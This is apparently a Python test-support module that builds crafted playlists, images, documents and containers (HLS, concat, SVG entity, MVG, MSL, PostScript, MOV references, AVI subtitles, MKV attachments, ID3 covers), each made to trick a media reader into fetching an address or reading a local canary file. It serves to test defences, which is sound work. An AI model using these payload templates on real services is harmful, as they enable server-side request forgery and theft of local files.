"""Files that would make a careless reader open another file or call an address, each under the name of its trick.

`loose` are the arguments with which Debian's ffmpeg falls for it: a trick that catches nobody would prove nothing.
Where it is None no common reader falls for it any more, or none that is at hand.
"""

import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.support import clips
from tests.support.canary import Victim
from tests.support.media import clip, gradient, song

PROTOCOLS = ("-protocol_whitelist", "file,http,tcp,crypto,rtp,udp,data")
HLS, CONCAT = ("-f", "hls"), ("-f", "concat", "-safe", "0")
DREFS = ("-enable_drefs", "1", "-use_absolute_path", "1")


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """`make` gives the file's bytes, and may use the folder. `turned_away`: its first bytes are enough to refuse it."""

    make: Callable[[Victim, Path], bytes]
    turned_away: bool = True
    loose: tuple[str, ...] | None = None


def _text(template: str, *loose: str) -> Attack:
    """Text with an address and a path in it."""

    def make(victim: Victim, _: Path) -> bytes:
        words = {"url": victim.url, "port": victim.port, "path": victim.film, "name": victim.film.name}
        return template.format(**words).encode()

    return Attack(make=make, loose=loose or None)


def _behind(head: bytes, attack: Attack, *loose: str) -> Attack:
    """The same behind bytes that look like the beginning of something harmless."""
    return Attack(
        make=lambda victim, folder: head + attack.make(victim, folder), turned_away=False, loose=loose or None
    )


# --- text

_SEGMENT = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{}\n#EXT-X-ENDLIST\n"
_DASH = """<?xml version="1.0"?>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S"><Period><AdaptationSet
mimeType="video/mp4"><Representation id="1" bandwidth="9"><BaseURL>{url}</BaseURL></Representation></AdaptationSet>
</Period></MPD>"""
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
_ENTITY = '<!DOCTYPE svg [<!ENTITY theft SYSTEM "file://{path}">]>'

TEXTS = {
    "hls-address": _text(_SEGMENT.format("{url}"), *HLS),
    "hls-file": _text(_SEGMENT.format("{path}"), *HLS),
    "hls-sibling": _text(_SEGMENT.format("{name}"), *HLS),
    "hls-key": _text('#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{url}"\n#EXTINF:1,\n{path}\n#EXT-X-ENDLIST\n', *HLS),
    "hls-map": _text('#EXTM3U\n#EXT-X-MAP:URI="{path}"\n#EXTINF:1,\n{url}\n#EXT-X-ENDLIST\n', *HLS),
    "hls-master": _text("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}\n"),
    "concat-sibling": _text("ffconcat version 1.0\nfile {name}\n", *CONCAT),
    "concat-address": _text("ffconcat version 1.0\nfile {url}\n", *CONCAT),
    "dash": _text(_DASH, "-f", "dash"),
    "sdp": _text("v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\n"),
    "pls": _text("[playlist]\nFile1={url}\nFile2={path}\nNumberOfEntries=2\n"),
    "m3u": _text("{url}\n{path}\n"),
    "asx": _text('<asx version="3.0"><entry><ref href="{url}"/></entry></asx>'),
    "asf-reference": _text("[Reference]\r\nRef1={url}?MSWMExt=.asf\r\n"),
    "xspf": _text('<?xml version="1.0"?><playlist xmlns="http://xspf.org/ns/0/"><location>{url}</location></playlist>'),
    "smil": _text('<smil><body><video src="{url}"/></body></smil>'),
    "svg-image": _text(_SVG + '<image xlink:href="{url}"/><image xlink:href="file://{path}"/></svg>'),
    "svg-entity": _text('<?xml version="1.0"?>' + _ENTITY + _SVG + "<text>&theft;</text></svg>"),
    "mvg": _text("push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'url({url})'\npop graphic-context\n"),
    "msl": _text('<?xml version="1.0"?><image><read filename="{path}"/><write filename="taken.png"/></image>'),
    "text-of-a-file": _text("label:@{path}\n"),
    "postscript": _text("%!PS-Adobe-3.0\n({path}) (r) file 9 string readstring\n"),
    "pdf": _text("%PDF-1.7\n1 0 obj <</OpenAction <</S/URI /URI({url})>>>> endobj\n"),
    "avisynth": _text('DirectShowSource("{path}")\n'),
    "ffmetadata": _text(";FFMETADATA1\nfile={path}\n"),
    "lottie": _text('{{"v":"5.5.2","layers":[],"assets":[{{"u":"{url}","p":"{path}"}}]}}'),
}


# --- boxes of MP4 and QuickTime


def box(name: bytes, *contents: bytes) -> bytes:
    data = b"".join(contents)
    return struct.pack(">I4s", 8 + len(data), name) + data


def replaced(data: bytes, path: tuple[bytes, ...], wanted: bytes) -> bytes:
    """Boxes in which the first one at `path` is `wanted`, and all around it have the size that follows."""
    at = 0
    while at < len(data):
        size, name = struct.unpack_from(">I4s", data, at)
        if name == path[0]:
            inner = wanted if len(path) == 1 else box(name, replaced(data[at + 8 : at + size], path[1:], wanted))
            return data[:at] + inner + data[at + size :]
        at += size
    raise AssertionError(f"there is no box {path[0]!r}")


def _film(reference: Callable[[Victim], bytes]) -> Callable[[Victim, Path], bytes]:
    """A film that says its samples are elsewhere. Its index comes last, so that no sample moves."""

    def make(victim: Victim, folder: Path) -> bytes:
        whole = clip(folder / "plain.mov", tone=False).read_bytes()
        places = box(b"dref", bytes(4), struct.pack(">I", 1), reference(victim))
        return replaced(whole, (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref"), places)

    return make


def _alias(victim: Victim) -> bytes:
    """An alias record of the Macintosh, with an absolute path, as FFmpeg's mov_read_dref reads it."""
    path = str(victim.film).encode()
    path += bytes(len(path) % 2)
    name = victim.film.name.encode()
    record = bytes(10) + bytes([1]) + b"v".ljust(27, b"\0") + bytes(12) + bytes([len(name)]) + name.ljust(63, b"\0")
    record += bytes(16) + struct.pack(">hh", 1, 1) + bytes(16)
    record += struct.pack(">hH", 2, len(path)) + path + struct.pack(">hH", -1, 0)
    return box(b"alis", bytes(4), record)


def _reference_movie(victim: Victim, _: Path) -> bytes:
    place = box(b"rdrf", bytes(4), b"url ", struct.pack(">I", len(victim.url) + 1), victim.url.encode() + b"\0")
    return box(b"ftyp", b"qt  ", bytes(4), b"qt  ") + box(b"moov", box(b"rmra", box(b"rmda", place)))


# --- RIFF, Matroska, ID3


def _chunk(name: bytes, *contents: bytes) -> bytes:
    data = b"".join(contents)
    return name + struct.pack("<I", len(data)) + data + bytes(len(data) % 2)


def _subtitled_avi(victim: Victim, folder: Path) -> bytes:
    """An AVI whose subtitles (GAB2) are a playlist, which FFmpeg once opened as whatever it looked like."""
    gradient(32, 32).save(folder / "frame.jpg")
    picture = (folder / "frame.jpg").read_bytes()
    playlist = TEXTS["hls-file"].make(victim, folder)
    texts = b"GAB2\0" + struct.pack("<HI", 2, 2) + b"x\0" + struct.pack("<HI", 4, len(playlist)) + playlist
    main = struct.pack("<14I", 40_000, 0, 0, 0x10, 5, 0, 2, 0, 32, 32, 0, 0, 0, 0)
    form = struct.pack("<IiiHH4sIiiII", 40, 32, 32, 1, 24, b"MJPG", 32 * 32 * 3, 0, 0, 0, 0)
    video = _chunk(b"strh", struct.pack("<4s4s10I4H", b"vids", b"MJPG", 0, 0, 0, 1, 25, 0, 5, 0, 0, 0, 0, 0, 32, 32))
    words = _chunk(b"strh", struct.pack("<4s4s10I4H", b"txts", b"\0\0\0\0", 0, 0, 0, 1, 25, 0, 1, 0, 0, 0, 0, 0, 0, 0))
    streams = _chunk(b"LIST", b"strl", video, _chunk(b"strf", form)) + _chunk(b"LIST", b"strl", words, _chunk(b"strf"))
    head = _chunk(b"LIST", b"hdrl", _chunk(b"avih", main), streams)
    return _chunk(
        b"RIFF", b"AVI ", head, _chunk(b"LIST", b"movi", _chunk(b"01tx", texts), _chunk(b"00dc", picture) * 5)
    )


def _attaching_mkv(victim: Victim, folder: Path) -> bytes:
    """A Matroska film with an attachment whose name leads out of the folder, to the victim."""
    font = folder / "font.ttf"
    font.write_bytes(b"not a font")
    film = clip(folder / "plain.mkv")
    names = ("-metadata:s:t", "mimetype=application/x-truetype-font", "-metadata:s:t", f"filename={victim.film}")
    return clips.make(folder / "attached.mkv", "-i", str(film), "-c", "copy", "-attach", str(font), *names).read_bytes()


def tag(*frames: bytes) -> bytes:
    """ID3v2.3, whose size has seven bits a byte."""
    data = b"".join(frames)
    return b"ID3\x03\0\0" + bytes(len(data) >> shift & 0x7F for shift in (21, 14, 7, 0)) + data


def _linked_cover(victim: Victim, folder: Path) -> bytes:
    """Cover art of the type "-->", which ID3 gives to an address instead of a picture."""
    cover = b"\0-->\0\x03\0" + victim.url.encode()
    link = b"\0" + b"\0" + str(victim.film).encode()
    frames = (struct.pack(">4sIH", name, len(data), 0) + data for name, data in ((b"APIC", cover), (b"WXXX", link)))
    return tag(*frames) + song(folder / "plain.mp3").read_bytes()


CONTAINERS = {
    "hls-behind-a-tag": _behind(tag(), TEXTS["hls-file"], *HLS),
    "concat-behind-a-tag": _behind(tag(), TEXTS["concat-address"], *CONCAT),
    "hls-behind-a-brand": _behind(box(b"ftyp", b"isom", bytes(4), b"isom"), TEXTS["hls-address"]),
    "dash-in-a-riff": _behind(b"RIFF\xff\xff\0\0WAVE", TEXTS["dash"]),
    "mov-address": Attack(make=_film(lambda to: box(b"url ", bytes(4), to.url.encode() + b"\0")), turned_away=False),
    "mov-alias": Attack(make=_film(_alias), turned_away=False, loose=DREFS),
    "mov-reference": Attack(make=_reference_movie, turned_away=False),
    "avi-subtitles": Attack(make=_subtitled_avi, turned_away=False),
    "mkv-attachment": Attack(make=_attaching_mkv, turned_away=False),
    "mp3-cover": Attack(make=_linked_cover, turned_away=False),
}
